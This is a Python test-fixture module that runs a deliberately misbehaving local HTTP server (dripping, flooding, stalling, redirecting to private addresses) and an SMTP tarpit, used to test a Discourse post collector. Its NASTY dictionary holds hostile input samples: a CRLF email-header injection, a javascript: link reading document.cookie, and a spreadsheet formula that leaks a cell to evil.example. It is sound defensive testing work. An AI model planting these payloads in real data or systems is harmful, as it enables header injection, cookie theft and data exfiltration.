"""A hostile platform for tests: one real HTTP server on 127.0.0.1 that misbehaves on demand, and an SMTP tarpit.

The promises (every complaint stored, no source stops the rest, loud failures) are only as true as the
worst platform they were tried against. `HostileServer` plays that platform. Each path is given a
behaviour, and can be given another at any moment while a runner polls it::

    with HostileServer() as srv:
        srv.serve("/posts.json", Json({"latest_posts": [...]}))     # a well-behaved answer
        srv.serve("/drip", Drip(every=5))          # headers, then one byte every 5 s, forever
        srv.serve("/drip-head", Drip(every=5, in_headers=True))     # even the status line drips
        srv.serve("/flood", Flood())               # 200, then an endless fast body
        srv.serve("/stall", Stall())               # reads the request, never answers
        srv.serve("/moved", Redirect("/posts.json"))                # same origin
        srv.serve("/away", Redirect("http://10.255.255.1/x"))       # a private address (or another origin, file://)
        srv.clock_offset = timedelta(minutes=-2)   # its Date headers and srv.now() run 2 minutes behind
        srv.requests                               # every request that arrived, headers included

A behaviour is any callable taking an `Exchange` (the request, and ways to answer it), so a test can
write its own; `Json` and `Body` also take a function of the exchange (to build a page from
`srv.now()`, the query, a counter). `NASTY` holds hostile payload pieces (NUL bytes, lone surrogates,
invalid UTF-8, CR/LF in names, `javascript:` links, formula cells, deep JSON).

`SmtpTarpit` is an SMTP server that never finishes its greeting: it sends a `220-` continuation line
every few seconds, forever.

Unknown paths answer 404. Every endless behaviour stops when the client hangs up or the server closes.
"""

from __future__ import annotations

import json
import socket
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

UTC = timezone.utc

NASTY: dict[str, Any] = {
    "nul": "Northwind\x00 ate my modem",
    "lone_surrogate_json": b'"Northwind \\ud800 broke"',    # valid JSON text that decodes to a lone surrogate
    "invalid_utf8": b"Northwind \xff\xfe\xc3( broke",
    "long_author": "a" * 300,
    "crlf_name": "evil\r\nBcc: x@y.example",
    "javascript_link": "javascript:alert(document.cookie)",
    "formula": '=HYPERLINK("https://evil.example/?leak="&A2,"click")',
    "entities": "AT&amp;T &lt;3 Northwind &gt; M&amp;S",
    "control": "Northwind\x1b[31m\x07\x08 red",
}


def deep_json(depth: int = 100_000) -> bytes:
    """A JSON text nested `depth` arrays deep (Python's json module gives up at about 1,000)."""
    return b"[" * depth + b"]" * depth


@dataclass
class Seen:
    """One request as it arrived."""

    method: str
    path: str
    query: dict[str, list[str]]
    headers: dict[str, str]  # names lower-cased
    body: bytes
    at: float  # time.monotonic()

    def arg(self, name: str, default: str | None = None) -> str | None:
        return self.query.get(name, [default])[0]


class Exchange:
    """What a behaviour gets: the request, the server, and ways to answer."""

    def __init__(self, handler: BaseHTTPRequestHandler, server: HostileServer, request: Seen) -> None:
        self.handler = handler
        self.server = server
        self.request = request

    @property
    def closing(self) -> threading.Event:
        return self.server.closing

    def send(self, status: int, body: bytes = b"", headers: dict[str, str] | None = None) -> None:
        h = self.handler
        h.send_response(status)
        h.send_header("Date", format_datetime(self.server.now(), usegmt=True))
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        if self.request.method != "HEAD":
            h.wfile.write(body)

    def start(self, status: int = 200, headers: dict[str, str] | None = None) -> None:
        """Send the status line and headers of a body without a length (it ends when we close)."""
        h = self.handler
        h.send_response(status)
        h.send_header("Date", format_datetime(self.server.now(), usegmt=True))
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.send_header("Connection", "close")
        h.end_headers()
        h.close_connection = True

    def write(self, data: bytes) -> None:
        self.handler.wfile.write(data)
        self.handler.wfile.flush()

    def raw(self, data: bytes) -> None:
        """Bytes straight onto the socket, before or instead of a proper status line."""
        self.handler.wfile.write(data)
        self.handler.wfile.flush()
        self.handler.close_connection = True


Behaviour = Callable[[Exchange], None]


@dataclass
class Json:
    """A JSON answer: an object, or a function of the exchange returning one."""

    body: Any
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)

    def __call__(self, ex: Exchange) -> None:
        value = self.body(ex) if callable(self.body) else self.body
        data = value if isinstance(value, bytes) else json.dumps(value).encode()
        ex.send(self.status, data, {"Content-Type": "application/json; charset=utf-8", **self.headers})


@dataclass
class Body:
    """Any bytes (or text, or a function of the exchange) with a content type of your choosing."""

    body: bytes | str | Callable[[Exchange], bytes | str]
    content_type: str = "text/html; charset=utf-8"
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)

    def __call__(self, ex: Exchange) -> None:
        value = self.body(ex) if callable(self.body) else self.body
        data = value.encode() if isinstance(value, str) else value
        ex.send(self.status, data, {"Content-Type": self.content_type, **self.headers})


@dataclass
class Drip:
    """One byte every `every` seconds, forever: after proper headers, or (`in_headers`) instead of them."""

    every: float = 5.0
    in_headers: bool = False
    content_type: str = "application/json"
    byte: bytes = b" "

    def __call__(self, ex: Exchange) -> None:
        if self.in_headers:
            ex.handler.close_connection = True
            head = b"HTTP/1.1 200 OK\r\nContent-Type: " + self.content_type.encode() + b"\r\nX-Padding: "
            for i in range(len(head)):
                ex.write(head[i:i + 1])
                if ex.closing.wait(self.every):
                    return
            while not ex.closing.wait(self.every):
                ex.write(b"x")
            return
        ex.start(200, {"Content-Type": self.content_type})
        while not ex.closing.wait(self.every):
            ex.write(self.byte)


@dataclass
class Flood:
    """200, then `chunk` bytes after `chunk` bytes as fast as the client reads, until it hangs up."""

    chunk: int = 64 * 1024
    content_type: str = "application/json"
    prefix: bytes = b'{"latest_posts": ['

    def __call__(self, ex: Exchange) -> None:
        ex.start(200, {"Content-Type": self.content_type})
        ex.write(self.prefix)
        block = b'{"id": 1, "raw": "' + b"x" * max(0, self.chunk - 30) + b'"},'
        while not ex.closing.is_set():
            ex.write(block)


@dataclass
class Stall:
    """Read the request and never answer (`after_headers`: send 200 and headers, then nothing)."""

    after_headers: bool = False

    def __call__(self, ex: Exchange) -> None:
        if self.after_headers:
            ex.start(200, {"Content-Type": "application/json"})
        ex.closing.wait()


@dataclass
class Redirect:
    """A redirect to `location`: a path on this server, another origin, a private address, file://..."""

    location: str | Callable[[Exchange], str]
    status: int = 302

    def __call__(self, ex: Exchange) -> None:
        where = self.location(ex) if callable(self.location) else self.location
        ex.send(self.status, b"", {"Location": where})


class HostileServer:
    """A ThreadingHTTPServer on 127.0.0.1 whose paths behave as told; see the module docstring."""

    def __init__(self) -> None:
        self.routes: dict[str, Behaviour] = {}
        self.requests: list[Seen] = []
        self.clock_offset = timedelta(0)
        self.closing = threading.Event()
        self.lock = threading.Lock()
        server = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args: Any) -> None:
                pass

            def _serve(self) -> None:
                parts = urlsplit(self.path)
                length = int(self.headers.get("Content-Length") or 0)
                seen = Seen(self.command, parts.path, parse_qs(parts.query, keep_blank_values=True),
                            {k.lower(): v for k, v in self.headers.items()},
                            self.rfile.read(length) if length else b"", time.monotonic())
                with server.lock:
                    server.requests.append(seen)
                    behaviour = server.routes.get(parts.path)
                ex = Exchange(self, server, seen)
                try:
                    if behaviour is None:
                        ex.send(404, b'{"errors": ["not found"]}', {"Content-Type": "application/json"})
                    else:
                        behaviour(ex)
                except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, OSError):
                    self.close_connection = True  # the client hung up: that is how endless answers end

            do_GET = do_POST = do_PUT = do_HEAD = _serve

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return self.httpd.server_address[1]

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def now(self) -> datetime:
        """The server's clock: UTC now plus `clock_offset`."""
        return datetime.now(UTC) + self.clock_offset

    def serve(self, path: str, behaviour: Behaviour) -> None:
        with self.lock:
            self.routes[path] = behaviour

    def seen(self, path: str | None = None) -> list[Seen]:
        with self.lock:
            return [r for r in self.requests if path is None or r.path == path]

    def close(self) -> None:
        self.closing.set()
        self.httpd.shutdown()
        self.httpd.server_close()

    def __enter__(self) -> HostileServer:
        return self

    def __exit__(self, *exc: Any) -> None:
        self.close()


class SmtpTarpit:
    """An SMTP server that never finishes its greeting: `220-` continuation lines every `every` seconds, forever."""

    def __init__(self, every: float = 3.0) -> None:
        self.every = every
        self.closing = threading.Event()
        self.connections = 0
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    @property
    def port(self) -> int:
        return self.sock.getsockname()[1]

    def _accept(self) -> None:
        while not self.closing.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, socket.timeout):
                continue
            except OSError:
                return
            self.connections += 1
            threading.Thread(target=self._greet_forever, args=(conn,), daemon=True).start()

    def _greet_forever(self, conn: socket.socket) -> None:
        with conn:
            n = 0
            while not self.closing.is_set():
                try:
                    conn.sendall(f"220-tarpit.example ESMTP welcome, line {n}\r\n".encode())
                except OSError:
                    return
                n += 1
                self.closing.wait(self.every)

    def close(self) -> None:
        self.closing.set()
        self.sock.close()

    def __enter__(self) -> SmtpTarpit:
        return self

    def __exit__(self, *exc: Any) -> None:
        self.close()


def discourse_post(post_id: int, text: str, *, topic: int = 1, number: int = 1, username: str = "pat_w",
                   created_at: datetime | None = None) -> dict:
    """One post as Discourse's /posts.json lists it (the fields the collector reads)."""
    at = (created_at or datetime.now(UTC)).isoformat().replace("+00:00", "Z")
    return {"id": post_id, "username": username, "created_at": at, "post_number": number,
            "reply_to_post_number": None, "topic_id": topic, "topic_slug": f"topic-{topic}",
            "topic_title": f"Topic {topic}", "post_type": 1, "raw": text, "cooked": f"<p>{text}</p>"}
